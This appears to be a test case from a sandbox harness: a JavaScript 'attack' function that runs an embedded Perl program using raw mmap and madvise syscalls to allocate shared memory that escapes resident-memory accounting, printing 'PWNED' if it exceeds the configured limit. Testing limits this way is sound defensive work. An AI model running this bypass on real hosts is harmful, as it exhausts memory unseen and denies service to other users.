async function attack(world) {
  // Shared memory that is touched and unmapped again is in nobody's resident memory.
  const x64 = process.arch === "x64";
  const chunk = 64 << 20;
  const program = `my $total = 0; my $zero = -1; open(my $z, "+<", "/dev/zero") and $zero = fileno($z);
    for my $try ([0x21, -1], [0x1, $zero]) { my $a = syscall(${x64 ? 9 : 222}, 0, ${world.memoryMib} << 20, 3, $try->[0], $try->[1], 0);
      if ($a < 0) { print "$! "; next }
      for (my $n = 0; $n < ${world.memoryMib}; $n += 64) { syscall(${x64 ? 28 : 233}, $a + ($n << 20), ${chunk}, 23); syscall(${x64 ? 28 : 233}, $a + ($n << 20), ${chunk}, 4); $total += 64 } last }
    sleep 1; print $total`;
  const total = perl(program);
  note(Number(total) >= world.memoryMib ? `PWNED, ${total} MiB` : total);
}
